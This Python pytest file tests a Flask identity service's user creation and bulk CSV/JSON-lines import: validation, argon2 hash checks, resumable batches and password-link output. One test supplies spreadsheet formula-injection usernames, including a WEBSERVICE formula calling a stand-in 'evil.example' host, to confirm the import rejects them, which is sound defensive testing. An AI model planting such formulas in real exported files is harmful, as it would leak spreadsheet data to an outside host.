"""``flask users create`` with claims, and ``flask users import``: all or nothing is judged first, and it goes on."""

from __future__ import annotations

import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from argon2 import PasswordHasher
from flask import Flask
from sqlalchemy import event, text

from tests.support.commands import run, run_for_json
from tests.support.residents import EVERY_CLAIM, PASSWORD, Resident, add_user, open_nodes, rows
from tests.support.token_requests import Provider
from website.users import user_import

CHEAP = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def nodes(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Provider]]:
    with open_nodes(request, tmp_path_factory.mktemp("instance"), request.param, 1) as opened:
        yield opened


@pytest.fixture
def node(nodes: list[Provider]) -> Iterator[Provider]:
    yield nodes[0]
    with nodes[0].server.database.engine.begin() as connection:
        for table in ("oauth2_client", "oauth2_subject", "oauth2_user", "oauth2_event"):
            connection.execute(text(f"DELETE FROM {table}"))


def write(folder: Path, content: str, name: str = "people.csv") -> str:
    file = folder / name
    file.write_text(content, encoding="utf-8")
    return str(file)


def people(number: int) -> str:
    lines = (f"person{index},Person {index},person{index}@example.org,true" for index in range(number))
    return "\n".join(["username,name,email,email_verified", *lines, ""])


def count(node: Provider) -> int:
    return int(rows(node, "SELECT count(*) FROM oauth2_user")[0][0])


def log_in(node: Provider, username: str, password: str = PASSWORD) -> int:
    return Resident(node.application).log_in(username, password=password).status


# One account


def test_an_account_is_created_with_its_claims(node: Provider) -> None:
    options = [part for name, value in EVERY_CLAIM.items() for part in (f"--{name.replace('_', '-')}", value)]
    run(node, "users", "create", "ada", "--password-stdin", *options, "--email-verified", feed=f"{PASSWORD}\n")
    shown = run_for_json(node, "users", "show", "ada", "--json")
    assert {name: shown[name] for name in EVERY_CLAIM} == EVERY_CLAIM
    assert shown["email_verified"] is True
    assert [log_in(node, "ada"), log_in(node, "ada@example.org")] == [303, 303]


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        (("--email", "ada"), "--email: Enter an email address"),
        (("--email", "bob@example.org"), "--email: Another account has this email address."),
        (("--locale", "?"), "--locale: Enter a language tag"),
        (("--email", "carol@example.org", "--email-verified"), "--email: "),
    ],
)
def test_an_account_whose_claims_cannot_be_is_not_created(
    node: Provider, options: tuple[str, ...], reason: str
) -> None:
    run(node, "users", "create", "bob", "--password", PASSWORD, "--email", "bob@example.org")
    node.server.users.create("carol@example.org")
    result = run(node, "users", "create", "ada", "--password", PASSWORD, *options, exit_code=1)
    assert reason in result.output
    assert count(node) == 2
    assert rows(node, "SELECT count(*) FROM oauth2_subject") == [(2,)]


def test_the_first_operator_is_one_command(node: Provider) -> None:
    run(node, "users", "create", "ada", "--password", PASSWORD, "--operator")
    run(node, "users", "create", "bob", "--password", PASSWORD)
    assert run_for_json(node, "users", "show", "ada", "--json")["is_operator"] is True
    assert run_for_json(node, "users", "show", "bob", "--json")["is_operator"] is False
    assert rows(node, "SELECT event FROM oauth2_event WHERE event LIKE 'operator%'") == [("operator_appointed",)]


def test_an_operator_whose_claims_cannot_be_is_not_created(node: Provider) -> None:
    result = run(node, "users", "create", "ada", "--password", PASSWORD, "--operator", "--email", "ada", exit_code=1)
    assert "--email: Enter an email address" in result.output
    assert count(node) == 0


def test_a_password_comes_from_standard_input(node: Provider) -> None:
    run(node, "users", "create", "ada", "--password-stdin", feed=f"{PASSWORD}\nmore")
    assert log_in(node, "ada") == 303
    run(node, "users", "passwd", "ada", "--password-stdin", feed=f"other {PASSWORD}\r\n")
    assert log_in(node, "ada", f"other {PASSWORD}") == 303
    both = ("--password", PASSWORD, "--password-stdin")
    assert "not both" in run(node, "users", "passwd", "ada", *both, exit_code=2).output


# A file


def test_two_hundred_accounts_come_from_a_file_of_csv(node: Provider, tmp_path: Path) -> None:
    result = run(node, "users", "import", write(tmp_path, people(200)))
    assert result.stdout == "200 accounts created; 0 already exist.\n"
    assert result.stderr.splitlines() == ["100 of 200", "200 of 200"]
    assert count(node) == 200
    row = node.server.users.find_row("person7")
    assert (row.name, row.email, row.email_verified, row.password_hash) == (
        "Person 7", "person7@example.org", True, None,
    )  # fmt: skip
    assert rows(node, "SELECT count(*) FROM oauth2_event WHERE event = 'user_created'") == [(200,)]


@pytest.mark.parametrize("name", ["people.jsonl", "people.ndjson", "people.txt"])
def test_a_file_of_json_lines_is_read_too(node: Provider, tmp_path: Path, name: str) -> None:
    lines = [json.dumps({"username": "ada", "email_verified": False, **EVERY_CLAIM}), "", '{"username": "bob"}']
    more = ("--format", "jsonl") if name.endswith("txt") else ()
    run(node, "users", "import", write(tmp_path, "\n".join(lines), name), *more)
    shown = run_for_json(node, "users", "show", "ada", "--json")
    assert {claim: shown[claim] for claim in EVERY_CLAIM} == EVERY_CLAIM
    assert count(node) == 2


def test_a_file_of_another_kind_needs_a_format(node: Provider, tmp_path: Path) -> None:
    assert "--format" in run(node, "users", "import", write(tmp_path, people(1), "people.txt"), exit_code=2).output


@pytest.mark.usefixtures("real_password_hashes")
def test_passwords_and_their_hashes_log_in(node: Provider, tmp_path: Path) -> None:
    content = f'username,password,password_hash\nada,{PASSWORD},\nbob,,"{CHEAP.hash(PASSWORD)}"\n'
    run(node, "users", "import", write(tmp_path, content))
    assert [log_in(node, "ada"), log_in(node, "bob")] == [303, 303]
    for name in ("ada", "bob"):  # hashed again with today's figures at the first login
        assert "m=19456,t=2,p=1" in node.server.users.find_row(name).password_hash


def test_a_byte_order_mark_and_lines_of_windows_are_understood(node: Provider, tmp_path: Path) -> None:
    file = tmp_path / "people.csv"
    file.write_bytes("\ufeffusername,name\r\nada,Ada Zoë\r\n".encode())
    run(node, "users", "import", str(file))
    assert node.server.users.find_row("ada").name == "Ada Zoë"


@pytest.mark.parametrize("separator", [";", "\t", ","])
@pytest.mark.parametrize("heading", [("username", "name"), ("name", "username"), ('"username"', '"name"')])
def test_cells_are_separated_as_spreadsheets_do_it(
    node: Provider, tmp_path: Path, separator: str, heading: tuple[str, str]
) -> None:
    cells = ["ada", "Ada; Countess"] if "username" in heading[0] else ["Ada; Countess", "ada"]
    lines = [separator.join(heading), separator.join(f'"{cell}"' for cell in cells), ""]
    run(node, "users", "import", write(tmp_path, "\n".join(lines)))
    assert node.server.users.find_row("ada").name == "Ada; Countess"


@pytest.mark.parametrize(
    ("username", "preferred_username", "reason"),
    [
        ("j.doe", "", "line 2: Another account has this username, preferred username or email address."),
        ("bob", "J.Doe", "line 2: Another account has this username, preferred username or email address."),
        ("bob", "person", "line 2: Line 1 has the same username, preferred username or email address."),
    ],
)
def test_a_preferred_username_is_one_persons(
    node: Provider, tmp_path: Path, username: str, preferred_username: str, reason: str
) -> None:
    add_user(node, "alice")
    run(node, "users", "set", "alice", "--preferred-username", "j.doe")
    lines = {"username": "person"}, {"username": username, "preferred_username": preferred_username}
    file = tmp_path / "people.jsonl"
    file.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    assert reason in run(node, "users", "import", str(file), exit_code=1).output
    assert count(node) == 1


# What is wrong


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (",Nobody,,", "line 3: Enter a username."),
        ("a\u200bda,,,", "line 3: Remove control and invisible characters."),
        ("bob,Bob,bob,", "line 3: email: Enter an email address"),
        ("bob,Bob,bob@example.org,perhaps", "line 3: email_verified: write true or false."),
        ("bob,Bob", "line 3: Has 2 cells, but the first line has 4."),
        ("PERSON0,Another,,", "line 3: Line 2 has the same username, preferred username or email address."),
        ("bob,Bob,Person0@example.org,", "line 3: Line 2 has the same username, preferred username or email address."),
        ("person0@example.org,,,", "line 3: Line 2 has the same username, preferred username or email address."),
        ('bob,"Bob,,', "line 3: Not valid CSV"),
        ("alice,Another,,", "line 3: alice already exists with a different name."),
        ("bob,,alice@example.org,", "line 3: email: Another account has this email address."),
        ("alice@example.org,,,", "line 3: Another account has this username, preferred username or email address."),
        (
            "bob,,dora@example.org,true",
            "line 3: Another account has this username, preferred username or email address.",
        ),
    ],
)
def test_one_line_that_is_wrong_is_named_and_nothing_is_written(
    node: Provider, tmp_path: Path, line: str, reason: str
) -> None:
    for name in ("alice", "dora@example.org"):
        add_user(node, name)
    run(node, "users", "set", "alice", "--name", "Alice", "--email", "alice@example.org", "--email-verified")
    result = run(node, "users", "import", write(tmp_path, people(1) + line + "\n"), exit_code=1)
    assert result.output.startswith("Error: 1 problem; nothing was written:\n")
    assert reason in result.output
    assert count(node) == 2


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"Username,name\nada,Ada\n", "one of them username, in small letters"),
        (b"username,name,name\nada,Ada,Ada\n", "names a column twice"),
        ("username,name\nada,Zoë\n".encode("latin-1"), "CSV UTF-8"),
    ],
)
def test_a_file_that_cannot_be_read_says_what_to_change(
    node: Provider, tmp_path: Path, content: bytes, reason: str
) -> None:
    file = tmp_path / "people.csv"
    file.write_bytes(content)
    assert reason in run(node, "users", "import", str(file), exit_code=1).output


def test_a_password_needs_a_terminal_or_an_option(node: Provider) -> None:
    assert "Use --password-stdin." in run(node, "users", "create", "ada", exit_code=2).output


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ('{"username": "ada", "department": "R&D"}', "Unknown: department. Known: username, password"),
        ('{"username": "ada", "groups": 5}', "groups: write the names of groups"),
        ('{"username": "ada", "groups": ["staff"]}', "groups: There is no group named staff"),
        ('{"username": "ada", "operator": true}', "Unknown: operator"),
        ('{"username": "ada", "name": 5}', "name: write a string."),
        ('{"username": ["ada"]}', "username: write a string."),
        ('{"username": "ada", "username": "bob"}', "duplicate name"),
        ('["ada"]', "not a JSON object"),
        ("ada", "not valid UTF-8 JSON"),
        ('{"name": "Ada"}', "Enter a username."),
        ('{"username": "ada", "password": "short"}', "at least 8 characters"),
        ('{"username": "ada", "password": "long enough", "password_hash": "x"}', "not both"),
        ('{"username": "ada", "password_hash": "$2b$12$abcdefghijklmnopqrstuv"}', "must be an argon2 hash"),
        ('{"username": "ada", "password_hash": "5f4dcc3b5aa765d61d8327deb882cf99"}', "must be an argon2 hash"),
        (
            '{"username": "ada", "password_hash": "$argon2id$v=19$m=99999999,t=2,p=1$c2FsdHNhbHQ$aGFzaGhhc2g"}',
            "too much memory or time",
        ),
        (
            '{"username": "ada", "password_hash": "$argon2id$v=19$m=8,t=9999,p=1$c2FsdHNhbHQ$aGFzaGhhc2g"}',
            "too much memory or time",
        ),
        (
            '{"username": "ada", "password_hash": "$argon2id$v=19$m=262144,t=10,p=16$c2FsdHNhbHQ$aGFzaGhhc2g"}',
            "too much memory or time",
        ),
        *(
            (f'{{"username": "ada", "password_hash": "$argon2id$v=19${cost}$c2FsdHNhbHQ${digest}"}}', "an argon2 hash")
            for cost, digest in (
                ("m=8,t=1,p=1", "aGFzaGh\u00e9hc2g"),
                ("m=\uff18,t=1,p=1", "aGFzaGhhc2g"),
                ("m=-8,t=1,p=1", "aGFzaGhhc2g"),
                ("m=8,t=0,p=0", "aGFzaGhhc2g"),
                ("m=8,t=1,p=1", "aGFzaGhhc2g\\n"),
            )
        ),
    ],
)
def test_a_line_of_json_that_is_wrong_is_named(node: Provider, tmp_path: Path, fields: str, reason: str) -> None:
    file = write(tmp_path, f'{{"username": "zoe"}}\n{fields}\n', "people.jsonl")
    result = run(node, "users", "import", file, exit_code=1)
    assert "line 2: " in result.output
    assert reason in result.output
    assert count(node) == 0


@pytest.mark.parametrize("content", ["", "name\nAda\n", "username,username\na,b\n", "username,name,name\na,b,c\n"])
def test_a_heading_that_names_no_accounts_is_refused(node: Provider, tmp_path: Path, content: str) -> None:
    assert "line 1: " in run(node, "users", "import", write(tmp_path, content), exit_code=1).output


@pytest.mark.parametrize("content", [b"username\n\xff\xfe\n", "username\nada".encode("utf-16")])
def test_a_file_that_is_no_text_is_refused(node: Provider, tmp_path: Path, content: bytes) -> None:
    (tmp_path / "people.csv").write_bytes(content)
    run(node, "users", "import", str(tmp_path / "people.csv"), exit_code=1)
    assert count(node) == 0


def test_every_problem_is_told_at_once_and_a_great_many_are_counted(node: Provider, tmp_path: Path) -> None:
    content = "username,email\n" + "".join(f"person{index},nonsense\n" for index in range(70))
    output = run(node, "users", "import", write(tmp_path, content), exit_code=1).output
    assert output.startswith("Error: 70 problems; nothing was written:\n  line 2: email: ")
    assert output.endswith("and 20 more\n")


# Again, and half-way


def test_an_unknown_column_is_told_once_and_hides_no_other_mistake(node: Provider, tmp_path: Path) -> None:
    content = "username,department,email\nada,R&D,ada@example.org\nbob,R&D,nonsense\n"
    output = run(node, "users", "import", write(tmp_path, content), exit_code=1).output
    assert output.startswith("Error: 2 problems; nothing was written:\n  line 1: Unknown columns: department. Known: ")
    assert "line 3: email: " in output
    assert count(node) == 0


def test_a_dry_run_writes_nothing_and_says_what_would_be(node: Provider, tmp_path: Path) -> None:
    file = write(tmp_path, people(3))
    output = run(node, "users", "import", file, "--dry-run").stdout
    assert output == "3 accounts to create; 0 already exist. Nothing was written.\n"
    assert count(node) == 0
    wrong = write(tmp_path, people(1) + "x,x,x,x\n")
    assert "line 3" in run(node, "users", "import", wrong, "--dry-run", exit_code=1).output


def test_what_is_there_already_is_passed_over(node: Provider, tmp_path: Path) -> None:
    run(node, "users", "import", write(tmp_path, people(3)))
    before = rows(node, "SELECT id, updated_at FROM oauth2_user ORDER BY id")
    again = run(node, "users", "import", write(tmp_path, people(5)))
    assert again.stdout == "2 accounts created; 3 already exist.\n"
    assert rows(node, "SELECT id, updated_at FROM oauth2_user ORDER BY id")[:3] == before


def test_an_import_that_was_interrupted_goes_on_where_it_stopped(
    node: Provider, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(user_import, "BATCH", 10)
    file, engine, inserted = write(tmp_path, people(35)), node.server.database.engine, []

    def interrupt(_connection: object, _cursor: object, statement: str, *_more: object) -> None:
        if statement.startswith("INSERT INTO oauth2_user"):
            inserted.append(1)
            if len(inserted) == 25:
                raise KeyboardInterrupt

    event.listen(engine, "before_cursor_execute", interrupt)
    try:
        result = node.application.test_cli_runner().invoke(args=["users", "import", file])
    finally:
        event.remove(engine, "before_cursor_execute", interrupt)
    assert result.exit_code == 1
    assert count(node) == 20  # two whole batches, and nothing of the third
    assert rows(node, "SELECT count(*) FROM oauth2_subject") == [(20,)]
    assert run(node, "users", "import", file).stdout == "15 accounts created; 20 already exist.\n"


# Links


def test_new_accounts_without_a_password_get_links_in_a_file_of_ones_own(node: Provider, tmp_path: Path) -> None:
    content = f"username,password\nada,\nbob,{PASSWORD}\ncarol,\n"
    links = tmp_path / "links.csv"
    run(node, "users", "import", write(tmp_path, content), "--links", str(links), "--valid-hours", "48")
    assert b"\r" not in links.read_bytes()  # shells and phones would take it for a part of the link
    for (seconds,) in rows(node, "SELECT expires_at - created_at FROM oauth2_password_link"):
        assert seconds == 48 * 3600
    assert stat.S_IMODE(os.stat(links).st_mode) == 0o600
    with links.open(newline="") as opened:
        told = list(csv.DictReader(opened))
    assert [row["username"] for row in told] == ["ada", "carol"]
    for row in told:
        path = row["link"].removeprefix("https://id.example")
        assert f"<strong>{row['username']}</strong>" in Resident(node.application).get(path).text
    again = run(node, "users", "import", write(tmp_path, content), "--links", str(links), exit_code=1)
    assert "can't be created" in again.output


@pytest.mark.parametrize("name", ['=WEBSERVICE("https://evil.example/?"&B3)', "+cmd|x", "-1+1", "@SUM(1)"])
def test_a_name_that_a_spreadsheet_would_run_gets_no_line_in_the_file_of_links(
    node: Provider, tmp_path: Path, name: str
) -> None:
    quoted = name.replace('"', '""')
    file, links = write(tmp_path, f'username\nada\n"{quoted}"\n'), tmp_path / "links.csv"
    result = run(node, "users", "import", file, "--links", str(links), exit_code=1)
    assert "line 3: " in result.output
    assert "formula" in result.output
    assert not links.exists()
    assert count(node) == 0


def test_the_demo_imports_accounts_and_has_no_links(application: Flask, tmp_path: Path) -> None:
    runner, file = application.test_cli_runner(), write(tmp_path, people(2))
    assert "no passwords" in runner.invoke(args=["users", "import", file, "--links", f"{tmp_path}/links.csv"]).output
    assert runner.invoke(args=["users", "import", file]).exit_code == 0
    assert Provider(application).server.users.count() == 2


def test_a_verified_address_of_a_file_is_taken_from_an_account_that_merely_claims_it(
    node: Provider, tmp_path: Path
) -> None:
    node.server.users.create("mallory", None, {"email": "boss@example.org"})
    for flag, exit_code in (("", 1), ("no", 1), ("yes", 0)):
        file = write(tmp_path, f"username,email,email_verified\nboss,boss@example.org,{flag}\n")
        run(node, "users", "import", file, exit_code=exit_code)
    assert node.server.users.find_row("mallory").email is None
    assert node.server.users.find_by_login("boss@example.org").username == "boss"
